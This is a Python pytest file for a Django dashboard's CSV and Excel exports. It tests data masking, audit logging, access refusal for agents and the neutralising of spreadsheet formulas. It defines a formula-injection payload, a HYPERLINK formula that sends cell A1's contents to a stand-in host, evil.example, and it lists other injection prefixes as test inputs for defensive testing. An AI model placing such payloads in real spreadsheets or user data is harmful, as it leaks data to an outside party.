"""Exports of the concern dashboard (CSV and Excel): what is on screen for the selection, customers' details
masked unless the user may export personal data, formulas neutralised, every export audit-logged."""

from __future__ import annotations

import csv
import io
import logging
from datetime import date, datetime

import pytest
import time_machine
from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook

from accounts.masking import mask_name, mask_reference
from analytics.exports import neutralised
from analytics.models import ThemeExample, ThemeRollup
from audit.models import AuditEntry
from surveys.models import Answer, Question
from tests import factories
from tests.analytics.test_dashboard import SHANGHAI, mark_refreshed, respondents, rollup

CSV_URL = reverse("analytics:dashboard-export-csv")
XLSX_URL = reverse("analytics:dashboard-export-xlsx")
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def wednesday_morning():
    with time_machine.travel(datetime(2026, 3, 11, 10, 0, tzinfo=SHANGHAI), tick=False):
        yield


@pytest.fixture(autouse=True)
def private_cache(settings):
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": "exp"}}
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def answers_with_an_attack():
    """50 respondents (NPS 20.0), two segments, one of them named like a formula; a security theme whose
    example answer is a formula, from 王芳 (bank reference CB20260042)."""
    campaign = factories.CampaignFactory(name="Spring")
    rollup(
        day=date(2026, 3, 2),
        campaign=campaign,
        segment="premium",
        device_os="ios",
        **respondents(30, promoters=12, detractors=6, security=12),
    )
    rollup(
        day=date(2026, 3, 3),
        campaign=campaign,
        segment="@SUM(1+1)",
        device_os="android",
        **respondents(20, promoters=8, detractors=4, security=8),
    )
    customer = factories.CustomerFactory(bank_reference="CB20260042", name="王芳")
    response = factories.ResponseFactory(follow_up__customer=customer, follow_up__campaign=campaign)
    question = factories.QuestionFactory(survey=response.survey, kind=Question.Kind.FREE_TEXT, concern="")
    answer = Answer.objects.create(response=response, question=question, text=ATTACK, concerns=["security"])
    dims = {"day": date(2026, 3, 2), "campaign": campaign}
    ThemeRollup.objects.create(concern="security", theme="leak", answers=1, **dims)
    ThemeExample.objects.create(
        concern="security", theme="leak", answer=answer, submitted_at=datetime(2026, 3, 2, 9, tzinfo=SHANGHAI), **dims
    )
    mark_refreshed(datetime(2026, 3, 11, 9, 59, tzinfo=SHANGHAI))


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="concern-dashboard-')
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def find(rows: list[list], first: str) -> list:
    return next(r for r in rows if r and r[0] == first)


def test_the_csv_holds_the_tables_on_screen_for_the_selection(client, manager, answers_with_an_attack):
    client.force_login(manager)
    rows = csv_rows(client.get(CSV_URL, HTTP_ACCEPT_LANGUAGE="en"))
    assert find(rows, "From") == ["From", "2025-12-12"]
    assert find(rows, "Device OS") == ["Device OS", "All"]
    assert find(rows, "NPS (−100 to 100)") == ["NPS (−100 to 100)", "20.0", "50"]
    assert find(rows, "NPS margin of error (95%)")[1] == "±20.7"
    assert find(rows, "Security") == ["Security", "20", "40.0%", "27.6–53.8%"]
    for title in ("Headline", "Concern shares", "Trends", "Breakdown by Device OS", "Free-text themes"):
        assert [title] in rows

    narrowed = csv_rows(client.get(CSV_URL, {"device_os": "ios"}, HTTP_ACCEPT_LANGUAGE="en"))
    assert find(narrowed, "Device OS") == ["Device OS", "iOS"]
    assert find(narrowed, "Respondents") == ["Respondents", "30", "30"]


def test_the_excel_file_opens_with_a_sheet_per_table_and_numbers_as_numbers(client, manager, answers_with_an_attack):
    client.force_login(manager)
    response = client.get(XLSX_URL, {"by": "segment"}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames[:5] == ["Selection", "Headline", "Concern shares", "Trends", "Breakdown by Segment"]
    headline = [[cell.value for cell in r] for r in workbook["Headline"].iter_rows()]
    assert headline[0] == ["Measure", "Value", "Answers"]
    assert find(headline, "NPS (−100 to 100)") == ["NPS (−100 to 100)", 20.0, 50]
    breakdown = [[cell.value for cell in r] for r in workbook["Breakdown by Segment"].iter_rows()]
    assert find(breakdown, "premium")[:3] == ["premium", 30, 20.0]
    assert find(breakdown, "'@SUM(1+1)")[:3] == ["'@SUM(1+1)", 20, "too few answers"]


def test_formulas_are_neutralised_in_both_formats(client, administrator, answers_with_an_attack):
    client.force_login(administrator)
    rows = csv_rows(client.get(CSV_URL, {"by": "segment"}, HTTP_ACCEPT_LANGUAGE="en"))
    [example] = [r for r in rows if len(r) == 6 and r[1] == "leak"]
    assert example[-1] == "'" + ATTACK
    assert find(rows, "'@SUM(1+1)")[1] == "20"
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)

    workbook = load_workbook(io.BytesIO(client.get(XLSX_URL, HTTP_ACCEPT_LANGUAGE="en").content))
    cell = workbook["Example answers"]["F2"]
    assert cell.value == "'" + ATTACK and cell.data_type == "s"
    assert all(c.data_type != "f" for sheet in workbook for r in sheet.iter_rows() for c in r)


def test_managers_get_customers_masked_in_the_example_answers(client, manager, answers_with_an_attack):
    client.force_login(manager)
    rows = csv_rows(client.get(CSV_URL, HTTP_ACCEPT_LANGUAGE="en"))
    assert ["Concern", "Theme", "Day", "Bank reference", "Customer", "Answer"] in rows
    example = [r for r in rows if len(r) == 6 and r[1] == "leak"][0]
    assert example[:5] == ["Security", "leak", "2026-03-02", "******0042", "王*"]
    assert "CB20260042" not in str(rows) and "王芳" not in str(rows)
    workbook = load_workbook(io.BytesIO(client.get(XLSX_URL, HTTP_ACCEPT_LANGUAGE="en").content))
    assert [c.value for c in workbook["Example answers"][2]][3:5] == ["******0042", "王*"]


def test_a_user_allowed_to_export_personal_data_gets_them_unmasked(client, administrator, answers_with_an_attack):
    assert administrator.has_perm("accounts.export_personal_data")
    client.force_login(administrator)
    rows = csv_rows(client.get(CSV_URL, HTTP_ACCEPT_LANGUAGE="en"))
    example = [r for r in rows if len(r) == 6 and r[1] == "leak"][0]
    assert example[3:5] == ["CB20260042", "王芳"]


def test_every_export_is_audit_logged_with_who_and_which_filters(client, manager, answers_with_an_attack, caplog):
    client.force_login(manager)
    with caplog.at_level(logging.INFO, logger="audit"):
        client.get(XLSX_URL, {"device_os": "ios", "campaign": "nonsense"})
    [entry] = AuditEntry.objects.filter(action=AuditEntry.Action.EXPORTED)
    assert entry.actor == manager and entry.actor_username == "maggie"
    assert entry.details["format"] == "xlsx" and entry.details["unmasked"] is False
    assert entry.details["filters"]["device_os"] == "ios" and "campaign" not in entry.details["filters"]
    [record] = [r for r in caplog.records if getattr(r, "audit_entry_id", None) == entry.pk]  # for log shipping
    assert "maggie" in record.getMessage()


def test_agents_cannot_export(client, agent, answers_with_an_attack):
    client.force_login(agent)
    assert client.get(CSV_URL).status_code == 403
    assert client.get(XLSX_URL).status_code == 403


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+86 138", "'+86 138"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain words", "plain words"),
        ("-20.0", "'-20.0"),  # customers' text: never turned into a number
        (7, 7),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(value, written):
    assert neutralised(value) == written


def test_the_dashboards_own_figures_stay_numbers_but_codes_with_leading_zeros_stay_text():
    assert neutralised("-20.0", numbers=True) == -20.0
    assert neutralised("50", numbers=True) == 50
    assert neutralised("0042", numbers=True) == "0042"


def test_a_reference_and_a_name_are_masked_to_their_last_four_characters_and_initials():
    assert mask_reference("CB20260042") == "******0042"
    assert mask_reference("0042") == "****"
    assert mask_reference("") == ""
    assert mask_name("王芳") == "王*"
    assert mask_name("John  Smith") == "J*** S****"
